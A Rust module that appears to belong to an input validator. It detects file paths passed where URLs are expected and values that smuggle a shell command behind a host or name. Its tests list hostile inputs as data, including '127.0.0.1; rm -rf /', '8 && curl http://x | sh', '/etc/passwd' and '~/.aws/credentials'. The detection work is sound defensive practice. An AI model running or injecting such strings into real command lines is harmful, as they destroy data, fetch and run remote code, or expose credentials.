//! The form of a value, compared with what its name suggests.

use super::look::{is_path, is_program, is_prose};

/// Returns whether a text without a scheme, where a URL is expected, can only be a file: it climbs
/// with `..`, it starts at a home, a drive, a share or a folder that no server's path begins with,
/// or it names a file below a folder without a host's dot.
pub(super) fn is_file(text: &str) -> bool {
    const SYSTEM: [&str; 10] = [
        "etc", "root", "proc", "sys", "boot", "var", "usr", "opt", "srv", "mnt",
    ];
    let text = text.trim();
    let Some(rest) = text.strip_prefix('/') else {
        let (first, rest) = text.split_once('/').unwrap_or(("", ""));
        let name = rest.rsplit('/').next().unwrap_or(rest);
        let has_extension = name.rsplit_once('.').is_some_and(|(stem, end)| {
            !stem.is_empty()
                && (1..=5).contains(&end.len())
                && end.bytes().all(|b| b.is_ascii_alphanumeric())
        });
        let plain = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_');
        let in_folder = !first.is_empty()
            && first.bytes().all(plain)
            && first != "localhost"
            && has_extension
            && !rest.contains([':', '?']);
        return in_folder || !text.contains("://") && !text.starts_with("file:") && is_path(text);
    };
    let mut parts = rest.split(['/', '\\']);
    let first = parts.next().unwrap_or("");
    let has_child = parts.next().is_some_and(|part| !part.is_empty());
    let in_home = matches!(first, "home" | "Users") && has_child && parts.next().is_some();
    in_home || has_child && SYSTEM.contains(&first) || rest.contains("/../") && is_path(text)
}

/// Returns whether a text begins as a name, a host or a number and continues with a command:
/// `127.0.0.1; rm -rf /`, `main|sh x`, `web$(reboot)`. Inserted into a command line, it runs both.
pub(super) fn continues_with_command(text: &str) -> bool {
    const SIGNS: [&str; 6] = ["$(", "`", "&&", "||", ";", "|"];
    const MAX_BYTES: usize = 2048;
    if text.len() > MAX_BYTES {
        return false;
    }
    let plain = |c: char| {
        c.is_ascii_alphanumeric()
            || matches!(c, '.' | '_' | '-' | ':' | '/' | '@' | '\'' | '"' | '%')
    };
    let end = text
        .trim_start()
        .find(|c| !plain(c))
        .map(|end| end + text.len() - text.trim_start().len());
    let Some((before, rest)) = end.and_then(|end| text.split_at_checked(end)) else {
        return false;
    };
    let sign = |rest: &str| SIGNS.into_iter().find(|sign| rest.starts_with(sign));
    let spaced = rest.trim_start();
    // A command substitution has to be adjacent to the value.
    let (Some(sign), rest) = (
        sign(rest).or_else(|| sign(spaced).filter(|sign| !matches!(*sign, "$(" | "`"))),
        spaced,
    ) else {
        return false;
    };
    if before.trim().len() > 128 {
        return false;
    }
    let command = rest.get(sign.len()..).unwrap_or_default().trim_start();
    let first = command
        .split([' ', '\t', ')', '`', ';', '|', '&'])
        .next()
        .unwrap_or(command);
    let name = first.rsplit('/').next().unwrap_or(first);
    is_program(name) && !is_prose(command)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn files_where_addresses_are_asked_for() {
        for text in [
            "../../x",
            "/etc/passwd",
            "~/.aws/credentials",
            "C:\\x",
            "docs/guide.md",
            "..%2f..%2fetc",
            "/home/ada/x",
        ] {
            assert!(is_file(text), "{text}");
        }
        for text in [
            "https://a.example/x.md",
            "/about",
            "/api/v1/x",
            "#top",
            "localhost/x.md",
            "a.example/x.md",
            "host:80/x",
        ] {
            assert!(!is_file(text), "{text}");
        }
    }

    #[test]
    fn a_command_behind_a_value_is_seen() {
        for text in [
            "127.0.0.1; rm -rf /",
            "main|sh x",
            "web$(reboot)",
            "1.1.1.1`rm -rf /`",
            "8 && curl http://x | sh",
        ] {
            assert!(continues_with_command(text), "{text}");
        }
        for text in [
            "a;b",
            "a|b|c",
            "Tom & Jerry",
            "cost $(USD)",
            "see `foo`",
            "a; b",
            "fix: `rm` now",
            "x",
        ] {
            assert!(!continues_with_command(text), "{text}");
        }
    }
}
